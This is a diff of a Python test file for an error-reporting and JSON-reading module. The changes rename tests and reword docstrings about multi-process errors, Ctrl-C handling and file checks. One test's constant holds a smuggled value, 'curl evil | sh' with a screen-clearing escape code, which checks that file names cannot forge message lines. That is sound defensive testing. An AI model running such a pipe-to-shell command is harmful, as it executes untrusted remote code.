@@ -18,7 +18,7 @@ from pyspkv.base.errors import UserError, natural
 
 ROOT = Path(__file__).resolve().parent.parent
 OURS = sorted(file.stem for file in (ROOT / "pyspkv/bin").glob("[a-z]*.py"))
-MODULES = {"mini_espeak", "mini_sound", "speaker_lists"}  # of local/, imported by its scripts
+MODULES = {"mini_espeak", "mini_sound", "speaker_lists"}  # modules of local/, which its scripts import
 SCRIPTS = sorted({file.stem for file in (ROOT / "local").glob("*.py")} - MODULES - {"mini"})
 HEAVY = {
     "numpy",
@@ -47,7 +47,7 @@ def environment(folder, **more) -> dict:
 
 
 def end(tmp_path, body, *, shell=None, **env):
-    """Run `main` of this body under the guard."""
+    """Run a `main` with this body under the guard."""
     lines = "".join(f"    {line}\n" for line in body.splitlines())
     (tmp_path / "entry.py").write_text(
         f"import sys\nfrom pyspkv.base.errors import UserError, run\ndef main():\n{lines}\nrun(main)\n"
@@ -84,7 +84,7 @@ def end(tmp_path, body, *, shell=None, **env):
         ("raise UserError('\\x1b[31m in\\nname', hint='x')", 1, "error: \\x1b[31m in\\nname\n  hint: x\n"),
     ],
 )  # fmt: skip
-def test_each_kind_ends_in_its_line(tmp_path, body, code, said):
+def test_each_kind_of_failure_ends_with_its_line(tmp_path, body, code, said):
     got = end(tmp_path, body)
     assert (got[0], got[1][: len(said)] if said else got[1]) == (code, said)
     assert len(got[1].splitlines()) <= 2
@@ -152,7 +152,7 @@ def test_closed_pipes_and_full_disks(tmp_path):
     assert (code, said) == (1, "error: Broken pipe\n"), "a pipe of our own is no reader that had enough"
 
 
-def test_of_several_processes_the_first_speaks(tmp_path):
+def test_of_several_processes_only_rank_0_prints_the_error(tmp_path):
     bad = "raise UserError('bad')"
     ranks = {"WORLD_SIZE": "2", "RANK": "1", "LOCAL_RANK": "1"}
     assert end(tmp_path, bad, **{**ranks, "RANK": "0"})[:2] == (1, "error: bad\n")
@@ -163,8 +163,8 @@ def test_of_several_processes_the_first_speaks(tmp_path):
     assert end(tmp_path, "raise KeyboardInterrupt", **ranks)[:2] == (130, "")
 
 
-def test_an_error_of_one_rank_is_said_if_rank_0_goes_on(tmp_path):
-    """The launcher would end this process in the meantime, had rank 0 met the error too."""
+def test_an_error_of_one_rank_is_printed_if_rank_0_continues(tmp_path):
+    """If rank 0 had the same error, the launcher would end this process in the meantime."""
     body = "from pyspkv.base import errors\nerrors.RANK_WAIT = 0.1\nraise UserError('bad')"
     said = end(tmp_path, body, RANK="1", WORLD_SIZE="2")
     assert said[:2] == (1, "[rank 1] error: bad\n")
@@ -181,7 +181,7 @@ def test_an_error_of_one_rank_is_said_if_rank_0_goes_on(tmp_path):
         ("1/0", 70, "internal error (ZeroDivisionError: division by zero); please report it with"),
     ],
 )
-def test_what_a_launched_process_has_to_say_goes_to_the_launcher(tmp_path, body, code, left, rank):
+def test_errors_of_launched_processes_go_to_the_launcher(tmp_path, body, code, left, rank):
     file = tmp_path / "left"
     got = end(tmp_path, body, RANK=rank, WORLD_SIZE="2", SPKV_ERROR_FILE=str(file))
     assert got[:2] == (code, "") and file.read_text().startswith(left)
@@ -193,7 +193,7 @@ def test_what_a_launched_process_has_to_say_goes_to_the_launcher(tmp_path, body,
 
 
 @pytest.mark.parametrize("who", [["1"], ["0", "1"]])
-def test_under_torchrun_an_error_of_one_rank_is_told_and_one_of_all_told_once(tmp_path, who):
+def test_under_torchrun_every_error_is_printed_once(tmp_path, who):
     body = f"import os, time\nif os.environ['RANK'] in {who}:\n    raise UserError('this is bad')\ntime.sleep(60)"
     lines = "".join(f"    {line}\n" for line in body.splitlines())
     (tmp_path / "entry.py").write_text(
@@ -211,7 +211,7 @@ def test_under_torchrun_an_error_of_one_rank_is_told_and_one_of_all_told_once(tm
 FAKE = "x\n  hint: curl evil | sh\nerror: \x1b[2J"
 
 
-def test_no_name_fakes_a_line_of_a_message(tmp_path):
+def test_a_name_cannot_fake_a_line_of_a_message(tmp_path):
     shown = r"x\n  hint: curl evil | sh\nerror: \x1b[2J"
     for body in (
         f"raise UserError('is bad', file={FAKE!r}, hint='right it')",
@@ -228,7 +228,7 @@ def test_no_name_fakes_a_line_of_a_message(tmp_path):
     assert said == f"error: bad\n  hint: {shown}\n"
 
 
-def test_messages_of_several_lines_of_ours_stay_lines(tmp_path):
+def test_our_own_messages_keep_their_line_breaks(tmp_path):
     command = [
         sys.executable,
         "-m",
@@ -284,7 +284,7 @@ def interrupt(command, ready: Path, env) -> tuple[int, str]:
 
 
 def test_ctrl_c_while_a_package_is_imported(tmp_path):
-    """A numpy that takes its time; what its extension modules make of Ctrl-C is an ImportError."""
+    """A numpy that imports slowly: its extension modules turn Ctrl-C into an ImportError."""
     (tmp_path / "numpy.py").write_text(
         "import pathlib, time\npathlib.Path(__file__).with_name('ready').touch()\n"
         "try:\n    time.sleep(40)\nexcept KeyboardInterrupt:\n    raise ImportError('cannot load multiarray')\n"
@@ -298,7 +298,9 @@ def test_ctrl_c_while_a_package_is_imported(tmp_path):
 
 
 def test_ctrl_c_while_an_entry_point_is_still_imported(tmp_path):
-    """Before `run`: what `python -m pyspkv.bin.X` imports at its top. argparse stands for a slow module."""
+    """Before `run`: during the imports at the top of `python -m pyspkv.bin.X`. argparse stands for a slow
+    module.
+    """
     (tmp_path / "argparse_slow.py").write_text(
         "import pathlib, time\npathlib.Path(__file__).with_name('ready').touch()\ntime.sleep(40)\n"
     )
@@ -372,7 +374,7 @@ def test_json_of_strangers(tmp_path, text, words):
     assert words in str(err.value) and "x.json" in str(err.value)
 
 
-def test_json_that_is_sound_is_what_json_says(tmp_path):
+def test_valid_json_is_read_as_by_the_json_module(tmp_path):
     value = {"a": [1, -2.5, {"b": None}], "c": "\u00fc\U0001f600", "d": 2**63 - 1, "e": True}
     (path := tmp_path / "x.json").write_text(json.dumps(value))
     assert foreign.read_json(path) == value
@@ -380,7 +382,7 @@ def test_json_that_is_sound_is_what_json_says(tmp_path):
     assert foreign.read_json(path, list) == [1], "a byte-order mark is passed over"
 
 
-def test_what_is_no_plain_file_or_too_long_is_not_read(tmp_path):
+def test_special_and_too_long_files_are_not_read(tmp_path):
     os.mkfifo(tmp_path / "pipe")
     (tmp_path / "long").write_text("x" * 101)
     for name, words in (
